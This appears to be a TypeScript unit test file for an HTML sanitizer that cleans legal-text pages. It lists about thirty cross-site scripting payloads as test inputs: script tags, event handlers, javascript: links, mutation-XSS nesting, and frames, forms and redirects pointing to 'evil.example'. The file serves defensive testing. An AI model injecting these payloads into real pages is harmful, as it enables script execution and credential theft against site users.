import { cleanLegalText } from './cleanLegalText';

const left = (html: string): string => {
  const container = document.createElement('div');
  container.append(cleanLegalText(html).nodes);
  return container.innerHTML;
};

const traps = 'window.hacked=1';

const payloads: readonly (readonly [string, string])[] = [
  ['a script', `<script>${traps}</script>`],
  ['a script from elsewhere', '<script src="https://evil.example/x.js"></script>'],
  ['a picture that fails', `<img src=x onerror="${traps}">`],
  ['a drawing', `<svg onload="${traps}"><script>${traps}</script></svg>`],
  ['a link inside a drawing', `<svg><a xlink:href="javascript:${traps}"><text>x</text></a></svg>`],
  [
    'a formula that hides markup',
    `<math><mtext><table><mglyph><style><img src=x onerror="${traps}"></style></mglyph></table></mtext></math>`,
  ],
  ['a form', '<form action="https://evil.example"><input name="password"><button>OK</button></form>'],
  ['a button that sends elsewhere', '<button formaction="https://evil.example">OK</button>'],
  ['a link to a script', `<a href="javascript:${traps}">x</a>`],
  ['a link to a script, in disguise', `<a href=" jAvA&#10;script:${traps}">x</a>`],
  ['a link to data', `<a href="data:text/html,<script>${traps}</script>">x</a>`],
  ['a link to another program', `<a href="vbscript:${traps}">x</a>`],
  ['a link beside the portal', '<a href="/api/logout">x</a>'],
  ['a style', '<style>body{display:none}</style>'],
  ['a style of its own', '<p style="position:fixed;inset:0">x</p>'],
  ['a class of ours', '<p class="sc-1">x</p>'],
  ['a frame', '<iframe src="https://evil.example"></iframe>'],
  ['a page in a frame', `<iframe srcdoc="<script>${traps}</script>"></iframe>`],
  ['an object', '<object data="https://evil.example"></object><embed src="https://evil.example">'],
  ['another base', '<base href="https://evil.example/">'],
  ['a way out by itself', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['a sheet of style', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['a template', `<template><img src=x onerror="${traps}"></template>`],
  ['a handler on a word', `<b onclick="${traps}" onmouseover="${traps}">x</b>`],
  ['a handler that starts by itself', `<details open ontoggle="${traps}">x</details>`],
  ['a film', `<video><source onerror="${traps}"></video>`],
  ['a dialog', '<dialog open>x</dialog>'],
  ['a component', `<x-y onfocus="${traps}" tabindex=1 autofocus>x</x-y>`],
  ['a comment that opens a tag', `<!--><img src=x onerror="${traps}">-->`],
  ['a text that is not closed', `<p>x<noscript><p title="</noscript><img src=x onerror=${traps}>">`],
  ['an id of the portal', '<h2 id="content">x</h2><a name="portal">y</a>'],
];

describe('a legal text (spec §2 legal-screens)', () => {
  it.each(payloads)('a legal text is inert when it contains %s', (_what, html) => {
    const shown = left(`<p>Avant</p>${html}`);
    expect(shown).toMatch(/^<p>Avant<\/p>/);
    expect(shown).not.toMatch(
      /<(?!\/?(?:p|a|b|h2|table|tbody)\b)|\son\w+=|script|evil|style|class=|srcdoc|"(?:content|portal)"|href/i,
    );
    expect(window).not.toHaveProperty('hacked');
  });

  it('a legal text keeps the anchors of another author, and its title moves below the page title', () => {
    expect(left('<h1 id="general" lang="fr">Politique</h1><article id="hub"><h5 id="contact">Un</h5></article>')).toBe(
      '<h2 id="general" lang="fr">Politique</h2><article id="hub"><h5 id="contact">Un</h5></article>',
    );
  });

  it('a legal text keeps its words, titles, lists, tables and safe links', () => {
    const html =
      '<h2 id="general">1. En bref</h2><p>Un <strong>mot</strong>, <a href="mailto:a@b.ca">une adresse</a>.</p><ul><li>Un</li></ul>' +
      '<table><tbody><tr><th scope="row">Un</th><td>Deux</td></tr></tbody></table><a href="#general">haut</a><a href="https://exemple.ca">site</a>';
    expect(left(html)).toBe(html);
  });

  it('a legal text names its sections by their titles, however the anchor is written', () => {
    const html =
      '<h2 id="general">1. En bref</h2><h2><a name="hub">2. Le hub</a></h2><h2>Sans ancre</h2><h2 id="vide"></h2>';
    expect(cleanLegalText(html).sections).toEqual([
      { id: 'general', title: '1. En bref' },
      { id: 'hub', title: '2. Le hub' },
    ]);
  });
});
